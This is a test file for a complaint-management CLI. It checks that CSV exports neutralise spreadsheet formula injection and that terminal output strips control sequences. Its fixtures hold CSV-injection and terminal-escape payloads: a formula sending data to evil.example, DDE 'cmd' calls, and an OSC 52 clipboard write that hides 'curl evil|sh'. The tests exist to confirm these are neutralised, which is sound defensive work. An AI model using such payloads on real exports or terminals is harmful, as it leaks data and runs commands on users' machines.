"""Exports that cannot attack their reader: CSV cells a spreadsheet never runs as formulas,
and people's output (tables, ``complaints show``) without terminal control sequences."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from omnichannel.cli import _csv_cell, main
from tests.helpers import json_doc

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# Every text field a citizen controls, each starting a formula in its own way.
HOSTILE_FIELDS: dict[str, Any] = {
    "subject": '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "text": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sender": {
        "name": "-2+3+cmd|' /C calc'!A0",
        "phone": "+6281234567890",
        "email": "=cmd@example.id",
        "handle": "\t=1+1",
    },
    "location": {"address": '\r=WEBSERVICE("http://evil.example")'},
    "category": "  =1+1",
    "agency": "+PUPR",
}


@pytest.fixture
def workdir(tmp_path: Path, database_url: str) -> Path:
    """A folder with a config for the backend under test and one hostile ``.json`` document."""
    (tmp_path / "omnichannel.toml").write_text(
        f'[database]\nurl = "{database_url}"\n\n[[connectors]]\nname = "files"\ntype = "files"\n',
        encoding="utf-8",
    )
    fields = dict(HOSTILE_FIELDS)
    (tmp_path / "hostile.json").write_bytes(
        json_doc("hostile-1", fields.pop("text"), channel="web", **fields)
    )
    return tmp_path


def run(workdir: Path, *args: str) -> str:
    """The command's standard output; ``color=True``: nothing is stripped on our behalf."""
    result = CliRunner().invoke(
        main, ["--config", str(workdir / "omnichannel.toml"), *args], color=True
    )
    assert result.exit_code == 0, result.output
    return result.stdout


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+6281234567890", "'+6281234567890"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1+1", "'  =1+1"),
        ("\n@x", "'\n@x"),
        ("\u00a0+1", "'\u00a0+1"),
        ("Jalan rusak = bahaya", "Jalan rusak = bahaya"),
        ("a-b", "a-b"),
        ("", ""),
        (None, None),
        (-5.147, -5.147),
        (3, 3),
        (True, True),
    ],
)
def test_csv_cells_that_could_start_a_formula_get_a_quote(value: Any, expected: Any) -> None:
    """Text starting with = + - @ tab or CR (also after leading whitespace) gets a leading
    ``'``; other text, numbers, booleans and empty cells are unchanged."""
    assert _csv_cell(value) == expected


@given(st.text(max_size=50))
def test_no_text_cell_starts_a_formula(value: str) -> None:
    """Whatever the text, the cell neither starts with a formula character nor does so after
    leading whitespace."""
    cell = _csv_cell(value)
    assert not cell.startswith(FORMULA_START)
    assert not cell.lstrip().startswith(FORMULA_START)


def test_csv_export_neutralises_every_hostile_field(workdir: Path) -> None:
    """The CSV export of a complaint whose every text field starts a formula: each such cell
    is prefixed with ``'`` and quoted; the phone is ``'+62…``; JSON Lines keeps raw values."""
    ingested = run(workdir, "ingest", "--connector", "files", str(workdir / "hostile.json"))
    assert json.loads(ingested)["outcome"] == "new"
    text = run(workdir, "complaints", "export", "--format", "csv")
    [row] = list(csv.DictReader(io.StringIO(text)))
    expected = {
        "subject": "'" + HOSTILE_FIELDS["subject"],
        "body": "'" + HOSTILE_FIELDS["text"],
        "sender_name": "'" + HOSTILE_FIELDS["sender"]["name"],
        "sender_phone": "'+6281234567890",
        "category": "'  =1+1",
        "agency": "'+PUPR",
    }
    assert {key: row[key] for key in expected} == expected
    for key in ("sender_email", "sender_handle", "location_address"):
        assert row[key].startswith("'"), key  # normalized, but still a formula without it
    for key, cell in row.items():
        assert not cell.lstrip().startswith(FORMULA_START), key
    assert '"\'+6281234567890"' in text and "\"'@SUM(1+1)" in text  # quoted cells
    exported = json.loads(run(workdir, "complaints", "export", "--format", "jsonl"))
    assert exported["sender"]["phone"] == "+6281234567890"


CONTROLS = {
    "sender": {
        "name": "Budi",
        "email": "budi\x1b]52;c;Y3VybCBldmlsfHNo\x07@example.id",  # OSC 52: write the clipboard
        "phone": "\x9b2J0812345",  # C1 CSI: clear the screen
    },
    "category": "\x1b]0;judul palsu\x07izin",  # OSC 0: the window title
    "agency": "PUPR\u202e",  # right-to-left override
    "location": {"address": "Jl. \x1b[8mtersembunyi\x1b[0m Merdeka"},
    "attachments": [{"filename": "a.pdf", "content_type": "application/pdf", "content": "JVBE"}],
}


def test_people_output_strips_terminal_control_sequences(workdir: Path) -> None:
    """``complaints show`` and ``complaints list`` print no ESC, C1 control or bidi override,
    whatever the fields hold (click is told not to strip anything itself)."""
    (workdir / "controls.json").write_bytes(
        json_doc("ctl-1", "Pengaduan \x1b[2J dengan kode", channel="web", **CONTROLS)
    )
    line = run(workdir, "ingest", "--connector", "files", str(workdir / "controls.json"))
    ticket = json.loads(line)["ticket"]
    shown = run(workdir, "complaints", "show", ticket)
    listed = run(workdir, "complaints", "list")
    for output in (shown, listed):
        assert not any(ch in output for ch in ("\x1b", "\x9b", "\x07", "\u202e")), output
    assert "Jl. [8mtersembunyi[0m Merdeka" in shown  # the text is kept, inert
    assert "budi]52;c;Y3VybCBldmlsfHNo@example.id" in shown
